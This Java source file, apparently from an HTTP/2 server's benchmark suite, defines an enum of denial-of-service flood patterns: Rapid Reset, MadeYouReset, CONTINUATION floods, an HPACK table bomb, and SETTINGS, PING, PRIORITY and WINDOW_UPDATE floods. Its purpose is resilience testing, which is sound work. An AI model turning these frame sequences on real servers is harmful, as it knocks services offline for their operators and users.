package hyperserve.bench.compare;

import static hyperserve.test.Http2Frames.ACK;
import static hyperserve.test.Http2Frames.CONTINUATION;
import static hyperserve.test.Http2Frames.DATA;
import static hyperserve.test.Http2Frames.END_HEADERS;
import static hyperserve.test.Http2Frames.END_STREAM;
import static hyperserve.test.Http2Frames.HEADERS;
import static hyperserve.test.Http2Frames.PING;
import static hyperserve.test.Http2Frames.PRIORITY;
import static hyperserve.test.Http2Frames.RST_STREAM;
import static hyperserve.test.Http2Frames.SETTINGS;
import static hyperserve.test.Http2Frames.WINDOW_UPDATE;
import static hyperserve.test.Http2Frames.int32;
import static hyperserve.test.Http2Frames.parameter;

import java.util.Arrays;

/// What a client of HTTP/2 says again and again that makes a server work for nothing.
enum Flood {
    /// Requests that are taken back (CVE-2023-44487).
    RAPID_RESET {
        @Override
        void say(FrameBytes frames, int i) {
            frames.frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, GET)
                    .frame(RST_STREAM, 0, 2 * i + 1, int32(8));
        }
    },
    /// Requests that the server has to reset (CVE-2025-8671).
    MADE_YOU_RESET {
        @Override
        void say(FrameBytes frames, int i) {
            frames.frame(HEADERS, END_HEADERS, 2 * i + 1, POST)
                    .frame(WINDOW_UPDATE, 0, 2 * i + 1, int32(0));
        }
    },
    /// A field section without an end.
    CONTINUATIONS {
        @Override
        void say(FrameBytes frames, int i) {
            if (i == 0) {
                frames.frame(HEADERS, END_STREAM, 1, GET);
            }
            frames.frame(CONTINUATION, 0, 1, FIELD);
        }
    },
    /// Fields that push each other out of the table, a large one named often (a bomb).
    TABLE {
        @Override
        void say(FrameBytes frames, int i) {
            byte[] block = Arrays.copyOf(GET, GET.length + LARGE.length + NAMED);
            System.arraycopy(LARGE, 0, block, GET.length, LARGE.length);
            Arrays.fill(block, GET.length + LARGE.length, block.length, (byte) (0x80 | 62));
            frames.frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, block);
        }
    },
    SETTINGS_FRAMES {
        @Override
        void say(FrameBytes frames, int i) {
            frames.frame(SETTINGS, 0, 0, parameter(4, i % 100));
        }
    },
    PINGS {
        @Override
        void say(FrameBytes frames, int i) {
            frames.frame(PING, 0, 0, new byte[8]);
        }
    },
    PRIORITIES {
        @Override
        void say(FrameBytes frames, int i) {
            frames.frame(PRIORITY, 0, 2 * i + 1, new byte[5]);
        }
    },
    EMPTY_DATA {
        @Override
        void say(FrameBytes frames, int i) {
            if (i == 0) {
                frames.frame(HEADERS, END_HEADERS, 1, POST);
            }
            frames.frame(DATA, 0, 1);
        }
    },
    WINDOW_UPDATES {
        @Override
        void say(FrameBytes frames, int i) {
            frames.frame(WINDOW_UPDATE, 0, 0, int32(1));
        }
    },
    /// Requests whose answers may not come, as the window is 0; then it is opened by one.
    CLOSED_WINDOWS {
        @Override
        void say(FrameBytes frames, int i) {
            if (i == 0) {
                frames.frame(SETTINGS, 0, 0, parameter(4, 0)).frame(SETTINGS, ACK, 0);
            }
            frames.frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, GET)
                    .frame(WINDOW_UPDATE, 0, 2 * i + 1, int32(1));
        }
    };

    private static final byte[] GET = FrameBytes.request("GET", "http", "/plaintext");
    private static final byte[] POST = FrameBytes.request("POST", "http", "/echo");

    /// A literal field that is not indexed: `a: b`.
    private static final byte[] FIELD = {0, 1, 'a', 1, 'b'};

    private static final int VALUE = 4_000;
    private static final int NAMED = 4_000;

    /// A literal field that is indexed (§6.2.1), as large as the table bears.
    private static final byte[] LARGE = large();

    private static byte[] large() {
        byte[] head = {
            0x40, 1, 'a', 0x7f, (byte) ((VALUE - 127) % 128 | 0x80), (VALUE - 127) / 128
        };
        byte[] field = Arrays.copyOf(head, head.length + VALUE);
        Arrays.fill(field, head.length, field.length, (byte) 'x');
        return field;
    }

    /// Adds what is said next.
    ///
    /// @param i how often it was said on this connection
    abstract void say(FrameBytes frames, int i);
}
